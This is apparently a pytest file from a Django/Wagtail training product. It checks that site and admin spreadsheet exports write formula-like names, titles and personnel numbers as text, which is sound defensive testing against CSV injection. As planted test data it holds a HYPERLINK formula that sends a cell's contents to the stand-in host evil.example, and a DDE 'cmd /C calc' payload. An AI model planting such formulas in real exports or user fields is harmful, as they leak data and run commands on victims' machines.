"""Every spreadsheet export of the product writes text as text (docs/security.md): a name, a
title or a personnel number that starts like a formula (``=``, ``+``, ``-``, ``@``, tab,
carriage return) is an apostrophe-prefixed CSV cell and a string XLSX cell, never a formula.

The exports covered here are every site URL that answers a file and every Wagtail admin
view that can export (``SpreadsheetExportMixin`` with columns); a new one that is not in
the lists below fails ``test_every_export_is_covered``, and a spreadsheet writer outside
people/spreadsheets.py fails ``test_one_writer``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from mentors import services
from mentors.models import BonusStatement
from people.models import Profile
from people.roles import Role
from tests.conftest import make_user
from tests.mentors import factories as mf
from tests.rampup.helpers import make_program, populate

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
CALC = "=cmd|' /C calc'!A0"
PLANTED = [HYPERLINK, CALC, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]

# Site URL names that answer a spreadsheet, each exercised below.
SITE_EXPORTS = {
    "dashboard_export_csv",
    "dashboard_export_xlsx",
    "mentors:bonuses_export",
    "mentors:payroll_batch_download",
    # Tested in tests/careers/test_pages.py::test_team_exports_write_formulas_as_text.
    "careers:team_export",
    # A question file (GIFT, Aiken, Moodle XML) for another LMS: text, not a spreadsheet.
    "quizzes_question_export",
}
# Wagtail admin views that export (by URL name), each exercised below. The workflow reports
# export too; they are covered by the same patched mixin (test_wagtail_mixin_is_routed).
ADMIN_EXPORTS = {
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:site_history_results",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:aging_pages_results",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:locked_pages_results",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_results",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailadmin_reports:workflow_tasks_results",
    "wagtailredirects:index",
    "wagtailredirects:index_results",
    "wagtailforms:list_submissions",
    "wagtailforms:list_submissions_results",
}


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    dialect = csv.excel if not text.split("\r\n", 1)[0].count(";") else _Semicolon
    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]


class _Semicolon(csv.excel):
    delimiter = ";"


def assert_csv_text(content: bytes, planted) -> None:
    cells = _csv_cells(content)
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), f"formula-like CSV cell {cell!r}"
    joined = "\n".join(cells)
    for text in planted:
        # Names are shown stripped (display_name), so "\t=1+1" may arrive as "=1+1".
        assert "'" + text in joined or "'" + text.strip() in joined, f"{text!r} not as text"


def assert_xlsx_text(content: bytes, planted) -> None:
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    values.append(cell.value)
    joined = "\n".join(values)
    for text in planted:
        # openpyxl reads a carriage return back as a newline.
        assert text.strip() in joined, f"{text!r} missing from the XLSX"


def _routes(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            ns = f"{entry.namespace}:" if entry.namespace else ""
            yield from _routes(entry, prefix + ns)
        elif isinstance(entry, URLPattern) and entry.name:
            yield prefix + entry.name, entry


def test_every_export_is_covered():
    site, admin = set(), set()
    for name, pattern in _routes():
        view = getattr(pattern.callback, "view_class", None)
        if view is not None and issubclass(view, SpreadsheetExportMixin):
            if getattr(view, "list_export", None):
                admin.add(name)
        elif re.search(r"export|download", name):
            site.add(name)
    assert site == SITE_EXPORTS, "a new site export: add it to this test"
    assert admin - ADMIN_EXPORTS == set(), "a new admin export: add it to this test"


def test_one_writer():
    """No CSV or XLSX writer outside people/spreadsheets.py (Wagtail's is routed through it;
    the benchmark harness writes its own input files, never an export)."""
    pattern = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|Workbook\(|tablib|xlsxwriter")
    stragglers = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.split("/")[0] in {"tests", "bench", "var", ".venv", "node_modules"}:
            continue
        if relative == "people/spreadsheets.py" or "/migrations/" in relative:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            stragglers.append(relative)
    assert stragglers == []


def test_wagtail_mixin_is_routed():
    assert getattr(SpreadsheetExportMixin, "lms_text_as_text", False)


# --- The site's exports -------------------------------------------------------------------


def _plant_trainees(program):
    enrollments, mentor = populate(program, len(PLANTED), hire=date(2026, 7, 1))
    for enrollment, text in zip(enrollments, PLANTED, strict=True):
        trainee = enrollment.trainee
        trainee.first_name, trainee.last_name = text, ""
        trainee.save()
    mentor.first_name, mentor.last_name = CALC, ""
    mentor.save()
    return enrollments, mentor


def test_ramp_up_exports(client):
    program = make_program(target_call=100, target_meeting=10, target_application=5)
    program.title = "+Program"
    program.save()
    _plant_trainees(program)
    client.force_login(make_user(Role.DIRECTOR))
    planted = [*PLANTED, "+Program"]
    xlsx = client.get(reverse("dashboard_export_xlsx"))
    assert xlsx.status_code == 200
    assert_xlsx_text(xlsx.content, planted)
    for params in ({}, {"dialect": "excel-ru"}):
        response = client.get(reverse("dashboard_export_csv"), params)
        assert response.status_code == 200
        assert_csv_text(response.content, planted)


@pytest.mark.parametrize("fmt", ["csv", "excel-ru", "xlsx"])
def test_payroll_exports_and_their_downloads(client, fmt):
    rule = mf.make_rule()
    director, head = make_user(Role.DIRECTOR), make_user(Role.HEAD_OF_SALES)
    planted = []
    for i, text in enumerate(PLANTED):
        mentor = make_user(Role.MENTOR, first_name=text, last_name="")
        trainee = make_user(Role.TRAINEE, first_name=PLANTED[-1 - i], last_name="")
        Profile.objects.update_or_create(user=mentor, defaults={"personnel_number": f"-{i}+{i}"})
        planted += [text, f"-{i}+{i}"]
        e = mf.make_enrollment(trainee=trainee, hire_date=date(2026, 1, 5))
        m = mf.make_mentorship(enrollment=e, mentor=mentor, rule=rule)
        mf.add_activities(
            e, "call", 10, datetime(2026, 1, 10, 11, tzinfo=ZoneInfo("Europe/Moscow"))
        )
        statement = services.statement_compute(mentorship_id=m.pk)
        services.statement_approve(statement=statement, user=director)
    assert BonusStatement.objects.filter(status="approved").count() == len(PLANTED)
    client.force_login(head)
    data = {"dialect": "excel-ru"} if fmt == "excel-ru" else {"format": fmt}
    exported = client.post(reverse("mentors:bonuses_export"), data)
    assert exported.status_code == 200, exported
    again = client.get(reverse("mentors:payroll_batch_download", args=[1]))
    assert again.content == exported.content
    if fmt == "xlsx":
        assert_xlsx_text(exported.content, planted)
    else:
        assert_csv_text(exported.content, planted)


# --- Wagtail's admin exports --------------------------------------------------------------


@pytest.fixture
def admin_client(client):
    client.force_login(make_user(is_superuser=True, is_staff=True, first_name=HYPERLINK))
    return client


@pytest.fixture
def planted_pages(admin_client):
    """Pages titled like formulas, edited (site history), locked (locked pages) and old
    (aging pages), and a redirect to a formula-like link."""
    root = Page.get_first_root_node()
    user = make_user(is_superuser=True, first_name=CALC, last_name="")
    pages = []
    for i, title in enumerate(PLANTED):
        page = Page(title=title, slug=f"planted-{i}")
        root.add_child(instance=page)
        page.save_revision(user=user, log_action=True).publish(user=user)
        page.locked, page.locked_by = True, user
        page.save()
        pages.append(page)
    # Published long ago, for the aging pages report.
    Page.objects.filter(pk__in=[p.pk for p in pages]).update(
        last_published_at=datetime(2020, 1, 1, tzinfo=ZoneInfo("Europe/Moscow"))
    )
    Redirect.objects.create(old_path="/planted", redirect_link=HYPERLINK)
    return pages


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:locked_pages",
        "wagtailredirects:index",
    ],
)
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_wagtail_admin_exports(admin_client, planted_pages, url_name, export):
    response = admin_client.get(reverse(url_name), {"export": export})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    planted = [HYPERLINK] if url_name == "wagtailredirects:index" else PLANTED
    if export == "csv":
        assert_csv_text(content, planted)
    else:
        assert_xlsx_text(content, planted)
